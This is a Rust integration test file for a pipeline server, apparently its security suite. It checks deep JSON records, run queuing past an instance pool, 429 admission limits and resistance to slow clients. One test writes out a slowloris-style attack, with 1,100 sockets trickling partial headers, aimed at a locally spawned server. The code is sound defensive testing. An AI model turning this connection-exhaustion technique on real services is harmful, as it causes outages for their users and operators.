    let mut list = support::fmhost();
    list.arg("--state")
        .arg(&state)
        .args(["runs", "list", "--json"]);
    let runs: support::Ran = support::output(list).await.into();
    let id = runs.json()[0]["run_id"].as_str().unwrap().to_string();
    let mut show = support::fmhost();
    show.arg("--state")
        .arg(&state)
        .args(["runs", "show", &id, "--json"]);
    let shown: support::Ran = support::output(show).await.into();
    assert_eq!(shown.code, 0, "{}", shown.stderr);
    // Printed 129+ levels deep: read it back without the parser's limit.
    let mut de = serde_json::Deserializer::from_str(&shown.stdout);
    de.disable_recursion_limit();
    let v: Value =
        serde::Deserialize::deserialize(serde_stacker::Deserializer::new(&mut de)).unwrap();
    let stage = v["stages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["id"] == "fetch")
        .unwrap();
    assert_eq!(stage["output"]["body"], deep);
    assert_eq!(v["output"]["body"], deep);
}

/// Runs beyond what the plugin instance pool holds wait for an instance; none fails
/// with the pool's "concurrent limit" (here a pool of 16 and 120 runs at once, each
/// holding its instance through a slow upstream call).
#[tokio::test]
async fn runs_beyond_the_instance_pool_wait_instead_of_failing() {
    let fake = Fake::start().await;
    fake.route(
        "/slow",
        vec![Reply::json(200, json!({})).delay(Duration::from_millis(200))],
    );
    let dir = support::scratch("security-pool");
    let plugins = fixtures(&dir, &[("target/test-plugins", "chaos")]);
    let pipelines = pipelines_dir(
        &dir,
        &[(
            "c.json",
            json!({"name": "c", "stages": [
        {"id": "chaos", "component": "chaos", "allowed_hosts": [format!("127.0.0.1:{}", fake.addr.port())],
         "config": {"mode": "call", "request": {"url": fake.url("/slow")}}}]}),
        )],
    );
    let server = Server::start_env(
        &dir,
        &pipelines,
        &plugins,
        &json!({}),
        &[],
        &[("FMHOST_PLUGIN_INSTANCES", "16")],
    );
    let client = support::api_client();
    let mut ids = Vec::new();
    for _ in 0..120 {
        let r: Value = client
            .post(format!("{}/v1/pipelines/c/runs?mode=async", server.url))
            .json(&json!({}))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        ids.push(r["run_id"].as_str().unwrap().to_string());
    }
    let deadline = Instant::now() + Duration::from_secs(60);
    for id in ids {
        loop {
            let run: Value = client
                .get(format!("{}/v1/runs/{id}", server.url))
                .send()
                .await
                .unwrap()
                .json()
                .await
                .unwrap();
            match run["status"].as_str() {
                Some("running") | Some("pending") => {
                    assert!(Instant::now() < deadline, "{run}");
                    tokio::time::sleep(Duration::from_millis(50)).await;
                }
                Some("succeeded") => break,
                _ => panic!("{run}"),
            }
        }
    }
    assert_eq!(fake.seen("/slow").len(), 120);
    drop(server);

    // Past the admission limit a run is refused at once with 429, never failed later.
    fake.route(
        "/slow",
        vec![Reply::json(200, json!({})).delay(Duration::from_secs(1))],
    );
    let server = Server::start_env(
        &dir,
        &pipelines,
        &plugins,
        &json!({}),
        &["--max-runs", "50"],
        &[("FMHOST_PLUGIN_INSTANCES", "16")],
    );
    let (mut accepted, mut refused) = (Vec::new(), 0);
    for _ in 0..80 {
        let r = client
            .post(format!("{}/v1/pipelines/c/runs?mode=async", server.url))
            .json(&json!({}))
            .send()
            .await
            .unwrap();
        match r.status().as_u16() {
            202 => accepted.push(
                r.json::<Value>().await.unwrap()["run_id"]
                    .as_str()
                    .unwrap()
                    .to_string(),
            ),
            429 => refused += 1,
            other => panic!("{other}"),
        }
    }
    assert!(
        refused > 0 && accepted.len() >= 50,
        "{} accepted, {refused} refused",
        accepted.len()
    );
    for id in accepted {
        loop {
            let run: Value = client
                .get(format!("{}/v1/runs/{id}", server.url))
                .send()
                .await
                .unwrap()
                .json()
                .await
                .unwrap();
            match run["status"].as_str() {
                Some("running") | Some("pending") => {
                    tokio::time::sleep(Duration::from_millis(100)).await
                }
                Some("succeeded") => break,
                _ => panic!("an accepted run failed: {run}"),
            }
        }
    }
}

/// 1,100 clients that trickle their header lines, against a server whose descriptor
/// limit is 1,024, do not stop `/healthz` from answering: the server holds fewer
/// connections than it has descriptors, and at the limit it closes the oldest
/// connection that has not sent a whole request.
#[tokio::test]
async fn clients_trickling_headers_do_not_take_every_connection() {
    use std::os::unix::process::CommandExt;
    use tokio::io::AsyncWriteExt;
    // This test holds 1,100 sockets itself.
    // SAFETY: only reads and raises this process's own descriptor limit.
    unsafe {
        let mut lim = libc::rlimit {
            rlim_cur: 0,
            rlim_max: 0,
        };
        libc::getrlimit(libc::RLIMIT_NOFILE, &mut lim);
        lim.rlim_cur = lim.rlim_max.max(4096).min(lim.rlim_max);
        libc::setrlimit(libc::RLIMIT_NOFILE, &lim);
    }
    let dir = support::scratch("security-slowloris");
    let pipelines = pipelines_dir(
        &dir,
        &[(
            "p.json",
            json!({"name": "p", "stages": [
        {"id": "log", "component": "logger", "config": {"message": "hi"}}]}),
        )],
    );
    let state = dir.join("state");
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_fmhost"));
    cmd.env_clear()
        .env("FMHOST_API_TOKEN", support::API_TOKEN)
        .arg("--state")
        .arg(&state)
        .args(["serve", "--listen", "127.0.0.1:0"])
        .arg("--pipelines")
        .arg(&pipelines)
        .arg("--plugins")
        .arg(&pipelines)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null());
    // SAFETY: setrlimit is async-signal-safe; it runs in the child before exec.
    unsafe {
        cmd.pre_exec(|| {
            let lim = libc::rlimit {
                rlim_cur: 1024,
                rlim_max: 1024,
            };
            libc::setrlimit(libc::RLIMIT_NOFILE, &lim);
            Ok(())
        });
    }
    let mut child = cmd.spawn().unwrap();
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(child.stdout.take().unwrap()),
        &mut line,
    )
    .unwrap();
    let url = line.trim().trim_start_matches("listening on ").to_string();
    let addr = url.trim_start_matches("http://").to_string();
    let mut tricklers = Vec::new();
    for _ in 0..1100 {
        if let Ok(mut s) = tokio::net::TcpStream::connect(&addr).await {
            let _ = s
                .write_all(format!("GET /healthz HTTP/1.1\r\nHost: {addr}\r\n").as_bytes())
                .await;
            tricklers.push(s);
        }
    }
    // Keep trickling a header line each while /healthz is asked.
    let client = reqwest::Client::builder()
        .timeout(Duration::from_secs(5))
        .build()
        .unwrap();
    let mut worst = Duration::ZERO;
    for round in 0..5 {
        for s in tricklers.iter_mut() {
            let _ = s
                .write_all(format!("X-Trickle-{round}: 1\r\n").as_bytes())
                .await;
        }
        let t = Instant::now();
        let resp = client.get(format!("{url}/healthz")).send().await.unwrap();
        assert_eq!(resp.status(), 200);
        worst = worst.max(t.elapsed());
    }
    eprintln!(
        "healthz, worst of 5 with {} trickling clients and 1,024 descriptors: {worst:?}",
        tricklers.len()
    );
    assert!(worst < Duration::from_secs(1), "{worst:?}");
    let _ = child.kill();
    let _ = child.wait();
}
